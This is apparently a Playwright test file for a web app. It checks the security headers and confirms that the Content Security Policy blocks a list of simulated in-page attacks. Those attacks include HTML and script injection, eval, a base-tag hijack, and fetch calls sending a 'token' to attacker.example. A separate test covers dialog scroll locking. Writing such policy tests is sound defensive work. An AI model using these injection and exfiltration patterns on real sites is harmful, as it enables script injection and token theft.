import { expect, test } from '../../../testing/journeys/fixtures';

declare global {
  var hasRun: boolean | undefined;
}

test('the security headers are those that the build writes for hosts', async ({ request, demo, product }) => {
  for (const { url } of [demo, product]) {
    const response = await request.get(url);
    const headers = response.headers();
    expect(headers['content-security-policy']).toContain("default-src 'none'");
    expect(headers['content-security-policy']).not.toContain("'unsafe");
    expect(headers['x-content-type-options']).toBe('nosniff');
    expect(headers['referrer-policy']).toBe('strict-origin');
    expect(headers['cross-origin-opener-policy']).toBe('same-origin');
    expect(headers['strict-transport-security']).toBe('max-age=63072000');
    expect(headers['permissions-policy']).toContain('geolocation=()');
  }
});

/** What code in the page could try; each sets `globalThis.hasRun` if it runs. */
const attacks: Readonly<Record<string, { run: () => unknown; blockedBy: string }>> = {
  'an event handler in HTML': {
    run: () => {
      const image = document.createElement('img');
      image.setAttribute('onerror', 'globalThis.hasRun = true');
      image.src = 'data:,';
      document.body.append(image);
    },
    blockedBy: 'require-trusted-types-for',
  },
  'HTML written into the page': {
    run: () => {
      document.body.innerHTML = '<img src="data:," onerror="globalThis.hasRun = true">';
    },
    blockedBy: 'require-trusted-types-for',
  },
  'the text of a script': {
    run: () => {
      const script = document.createElement('script');
      script.textContent = 'globalThis.hasRun = true';
      document.body.append(script);
    },
    blockedBy: 'require-trusted-types-for',
  },
  'a script of another origin': {
    run: () => {
      const script = document.createElement('script');
      script.src = 'https://attacker.example/x.js';
      document.body.append(script);
    },
    blockedBy: 'require-trusted-types-for',
  },
  eval: {
    // In a timer, because Playwright's own calls may evaluate text.
    // oxlint-disable-next-line no-eval -- This is what must not run.
    run: () => setTimeout(() => globalThis.eval('globalThis.hasRun = true')),
    blockedBy: 'require-trusted-types-for',
  },
  'a request to another origin': {
    run: () =>
      fetch('https://attacker.example/?token').then(() => Object.assign(globalThis, { hasRun: true })),
    blockedBy: 'connect-src',
  },
  'a worker of another origin': {
    run: () => new Worker('https://attacker.example/x.js'),
    blockedBy: 'require-trusted-types-for',
  },
  'a base URL': {
    run: () => {
      const base = document.createElement('base');
      base.href = 'https://attacker.example/';
      document.head.append(base);
      Object.assign(globalThis, { hasRun: document.baseURI.includes('attacker') });
    },
    blockedBy: 'base-uri',
  },
  'a frame': {
    run: () =>
      document.body.append(
        Object.assign(document.createElement('iframe'), { src: 'https://attacker.example/' }),
      ),
    blockedBy: 'frame-src',
  },
  'a style attribute in HTML': {
    run: () => {
      const box = document.createElement('div');
      box.setAttribute('style', 'background: url(https://attacker.example/)');
      document.body.append(box);
      Object.assign(globalThis, { hasRun: box.style.length > 0 });
    },
    blockedBy: 'style-src-attr',
  },
};

test.describe('what the policy blocks', () => {
  for (const [name, { run, blockedBy }] of Object.entries(attacks)) {
    test(`${name} does not run`, async ({ browser, demo }) => {
      // In a new context, because the fixture of the default one fails the test for a violation.
      const context = await browser.newContext();
      const page = await context.newPage();
      const blocked: string[] = [];
      await page.exposeFunction('noteBlocked', (directive: string) => blocked.push(directive));
      await page.addInitScript(() =>
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
          (globalThis as unknown as { noteBlocked: (directive: string) => void }).noteBlocked(
            effectiveDirective,
          ),
        ),
      );
      await page.goto(`${demo.url}about`);
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      await page.evaluate(run).catch(() => undefined);
      await expect.poll(() => blocked).toContain(blockedBy);
      expect(await page.evaluate(() => globalThis.hasRun ?? false)).toBe(false);
      await context.close();
    });
  }
});

test('errors, rejections and violations reach the error report once, without values', async ({
  browser,
  product,
}) => {
  // In a new context, because the fixture of the default one fails the test for a violation.
  const context = await browser.newContext();
  const page = await context.newPage();
  const reports: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'debug') reports.push(message.text());
  });
  await page.goto(`${product.url}verify-email?email=ama@example.com`);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  await page.evaluate(() => {
    const error = new TypeError('No photo for ama@example.com');
    for (let count = 0; count < 3; count += 1) {
      setTimeout(() => {
        throw error;
      });
      void Promise.reject(error);
    }
    fetch('https://attacker.example/?token=secret').catch(() => undefined);
  });
  await expect
    .poll(() => reports.toSorted())
    .toEqual([
      'SecurityPolicyViolation (policy) on /verify-email: connect-src blocked https://attacker.example',
      expect.stringMatching(
        /^TypeError \((?:error|rejection)\) on \/verify-email: No photo for \[(?:private|email)\]$/,
      ),
    ]);
  await context.close();
});

test('an open dialog keeps the page behind it from scrolling, and nothing of the page moves', async ({
  page,
  demo,
}) => {
  await page.goto(`${demo.url}listings`);
  await page.getByRole('link', { name: 'View Details' }).first().click();
  const report = page.getByRole('button', { name: 'Report Issue' });
  await report.scrollIntoViewIfNeeded();
  const position = () => page.evaluate(() => [scrollY, document.querySelector('main')?.clientWidth]);
  const before = await position();
  await report.click();
  await expect(page.getByRole('dialog', { name: 'Report Issue' })).toBeVisible();
  await page.mouse.move(10, 10);
  await page.mouse.wheel(0, -400);
  // A page that is not locked has scrolled by then.
  await page.evaluate(
    () => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))),
  );
  expect(await position()).toEqual(before);
  await page.keyboard.press('Escape');
  await expect(page.getByRole('dialog')).toHaveCount(0);
  await page.mouse.wheel(0, -400);
  await expect.poll(async () => (await position())[0]).toBeLessThan(Number(before[0]));
});
